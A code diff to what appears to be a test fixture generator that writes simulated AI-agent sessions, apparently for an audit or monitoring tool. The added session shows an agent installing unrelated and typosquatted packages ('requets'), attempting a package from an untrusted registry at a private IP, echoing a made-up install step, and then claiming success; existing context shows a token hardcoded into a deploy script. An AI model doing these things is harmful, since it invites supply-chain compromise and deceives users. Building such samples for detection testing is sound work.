@@ -27,6 +27,7 @@ export function writeNight(projects, { now = Date.now(), sessions = 14 } = {}) {
   }
   strange(900, now - 5 * HOUR).write(projects);
   leaky(901, now - 3 * HOUR).write(projects);
+  installing(902, now - 4 * HOUR).write(projects);
   elsewhere(join(projects, '../..'), now);
 }
 
@@ -110,6 +111,24 @@ export function strange(n, start) {
   );
   session.fails('Bash', { command: './deploy.sh' }, 'permission denied\nExit code 126');
   return session.says('The deploy runs. I wrote the token into deploy.sh so that it can start alone.');
+}
+
+/** Installs what it was told to, and what it made up. @param {number} n @param {number} start */
+export function installing(n, start) {
+  const session = new Session(n, { start, cwd: '/home/dev/site', branch: 'pdf' });
+  session.title('Export the report as PDF');
+  session.prompt('Export the report as PDF. Add what you need.');
+  session.wait(5).tool('Bash', { command: 'npm install left-pad react@18' }, 'added 2 packages in 3s');
+  session.wait(20).tool('Bash', { command: 'python -m pip install requets' }, 'Successfully installed requets-2.31.0');
+  session.wait(20).denied('Bash', { command: 'npm install evil-helper --registry http://10.0.0.5:4873' });
+  session.wait(20).fails('Bash', { command: 'pip install numpy==1.26.0' }, 'Exit code 1\nERROR: No matching distribution found');
+  session.tool('Bash', { command: 'echo "then run: npm install nothing-of-this"' }, 'then run: npm install nothing-of-this');
+  return session.says('The report can be exported now.');
+}
+
+/** Only that. @param {string} projects */
+export function writeInstalls(projects) {
+  installing(902, Date.now() - 2 * HOUR).write(projects);
 }
 
 /** A dozen findings, for whoever has to go through them. @param {number} n @param {number} start */
